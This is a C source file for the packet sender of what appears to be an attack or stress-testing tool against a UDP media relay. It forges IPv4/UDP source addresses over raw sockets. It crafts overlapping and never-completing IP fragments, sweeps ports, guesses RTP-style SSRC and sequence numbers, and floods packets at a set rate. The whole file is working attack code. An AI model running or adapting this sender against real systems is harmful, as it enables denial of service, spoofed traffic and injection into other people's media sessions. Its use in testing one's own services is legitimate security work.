/* SPDX-License-Identifier: GPL-2.0-or-later */
/* See sender.h. A forged source needs a raw socket, whose packets bring their IPv4 and UDP headers
 * with them; to it nothing can come back. */
#include "sender.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <base/endpoint.h>
#include "payload.h"

#define BATCH	32
#define HEADERS (sizeof(struct iphdr) + sizeof(struct udphdr))

struct sender {
	const struct attack *attack;
	int fd;
	uint64_t number; /* of the next packet */
	uint32_t ssrc;
	uint16_t sequence;
	uint8_t data[BATCH][HEADERS + PAYLOAD_MAX];
	struct sockaddr_in to[BATCH];
	struct iovec iov[BATCH];
	struct mmsghdr msg[BATCH];
};

static double seconds_now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static struct sockaddr_in sockaddr_of(const struct xrp_endpoint *ep)
{
	return (struct sockaddr_in){
		.sin_family = AF_INET, .sin_addr.s_addr = ep->addr.word[3], .sin_port = ep->port};
}

static int open_socket(const struct attack *a)
{
	const struct sockaddr_in from = sockaddr_of(&a->from);
	const int room = 4 << 20;
	int fd = a->spoof ? socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK, IPPROTO_RAW)
			  : socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof(room));
	setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof(room));
	if (a->spoof || !bind(fd, (const struct sockaddr *)&from, sizeof(from)))
		return fd;
	close(fd);
	return -1;
}

struct sender *sender_new(const struct attack *attack)
{
	struct sender *s = calloc(1, sizeof(*s));

	if (!s)
		return NULL;
	s->attack = attack;
	s->fd = open_socket(attack);
	if (s->fd >= 0)
		return s;
	free(s);
	return NULL;
}

void sender_free(struct sender *s)
{
	close(s->fd);
	free(s);
}

/*
 * Makes a fragment of it. Four make a datagram that is never whole: its beginning, a piece that
 * lies over that, one from far behind, and a second beginning of another length.
 */
static void make_fragment(struct iphdr *ip, uint64_t number)
{
	static const uint16_t at[] = {IP_MF, IP_MF | 1, IP_MF | 100, IP_MF};

	ip->id = htons((uint16_t)(number / 4 + 1));
	ip->frag_off = htons(at[number % 4]);
}

/* All fragments but the last are of 8 bytes times n, the UDP header included. */
static size_t fragment_length(uint64_t number, size_t len)
{
	return number % 4 == 3 ? 0 : len & ~(size_t)7;
}

/* The headers of a forged packet; the IP checksum is the kernel's. */
static void write_headers(const struct attack *a, uint64_t number, __be16 port, size_t len,
			  uint8_t *at)
{
	struct iphdr ip = {.version = 4,
			   .ihl = 5,
			   .ttl = 64,
			   .protocol = IPPROTO_UDP,
			   .tot_len = htons((uint16_t)(HEADERS + len)),
			   .saddr = a->from.addr.word[3],
			   .daddr = a->to.addr.word[3]};
	struct udphdr udp = {
		.source = a->from.port, .dest = port, .len = htons((uint16_t)(sizeof(udp) + len))};

	if (a->fragments)
		make_fragment(&ip, number);
	memcpy(at, &ip, sizeof(ip));
	memcpy(at + sizeof(ip), &udp, sizeof(udp));
}

static void prepare(struct sender *s, unsigned int slot)
{
	const struct attack *a = s->attack;
	uint64_t visit = s->number / a->burst;
	unsigned int port = endpoint_port(&a->to) + (unsigned int)(visit % a->ports) * a->step;
	size_t headers = a->spoof ? HEADERS : 0;
	struct payload_of of = {.number = s->number, .size = a->size};
	uint8_t *at = s->data[slot];
	size_t len;

	if (s->number % a->burst == 0) {
		s->ssrc = a->ssrc_known ? a->ssrc : (uint32_t)random() ^ (uint32_t)random() << 16;
		s->sequence = (uint16_t)random();
	}
	of.ssrc = s->ssrc;
	of.sequence = (uint16_t)(a->sequence_known ? a->sequence + s->number
						   : s->sequence + s->number % a->burst);
	len = a->kind->write(&of, at + headers);
	if (a->fragments)
		len = fragment_length(s->number, len);
	s->to[slot] = sockaddr_of(&a->to);
	s->to[slot].sin_port = htons((uint16_t)port);
	if (a->spoof)
		write_headers(a, s->number, s->to[slot].sin_port, len, at);
	s->iov[slot] = (struct iovec){at, headers + len};
	s->msg[slot].msg_hdr = (struct msghdr){.msg_name = &s->to[slot],
					       .msg_namelen = sizeof(s->to[slot]),
					       .msg_iov = &s->iov[slot],
					       .msg_iovlen = 1};
	s->number++;
}

static void send_batch(struct sender *s, unsigned int count, struct attack_result *result)
{
	unsigned int done = 0;
	int n;

	for (unsigned int i = 0; i < count; i++)
		prepare(s, i);
	while (done < count) {
		n = sendmmsg(s->fd, s->msg + done, count - done, 0);
		if (n > 0) {
			done += (unsigned int)n;
			result->sent += (unsigned int)n;
		} else if (errno == EAGAIN || errno == ENOBUFS) {
			poll(&(struct pollfd){.fd = s->fd, .events = POLLOUT}, 1, 10);
		} else { /* such as an ICMP error that an earlier one brought */
			done++;
			result->failed++;
		}
	}
}

static void receive(struct sender *s, struct attack_result *result)
{
	uint8_t buf[2048];
	struct sockaddr_in from;
	socklen_t len = sizeof(from);
	ssize_t n;

	while (!s->attack->spoof &&
	       (n = recvfrom(s->fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &len)) >= 0) {
		struct xrp_addr addr = addr_from_v4(from.sin_addr.s_addr);

		result->received++;
		result->received_bytes += (uint64_t)n;
		result->last = endpoint_make(&addr, ntohs(from.sin_port));
		len = sizeof(from);
	}
}

/* How many packets are due now. */
static unsigned int due(const struct sender *s, double elapsed)
{
	const struct attack *a = s->attack;
	double due = a->pps * elapsed - (double)s->number;

	if (!a->to.port || due < 1)
		return 0;
	if (due > BATCH)
		due = BATCH;
	if (a->count && (double)(a->count - s->number) < due)
		due = (double)(a->count - s->number);
	return (unsigned int)due;
}

static bool is_over(const struct sender *s, double elapsed)
{
	const struct attack *a = s->attack;

	return (a->count && s->number >= a->count) || (a->seconds > 0 && elapsed >= a->seconds);
}

static void listen_for(struct sender *s, int ms, struct attack_result *result)
{
	poll(&(struct pollfd){.fd = s->attack->spoof ? -1 : s->fd, .events = POLLIN}, 1, ms);
	receive(s, result);
}

void sender_run(struct sender *s, const volatile bool *stop, struct attack_result *result)
{
	double began = seconds_now(), elapsed = 0, end;
	unsigned int count;

	for (; !*stop && !is_over(s, elapsed); elapsed = seconds_now() - began) {
		count = due(s, elapsed);
		if (count)
			send_batch(s, count, result);
		listen_for(s, count ? 0 : 1, result);
	}
	end = seconds_now() + s->attack->linger / 1e3;
	while (!*stop && seconds_now() < end)
		listen_for(s, 10, result);
	receive(s, result);
}
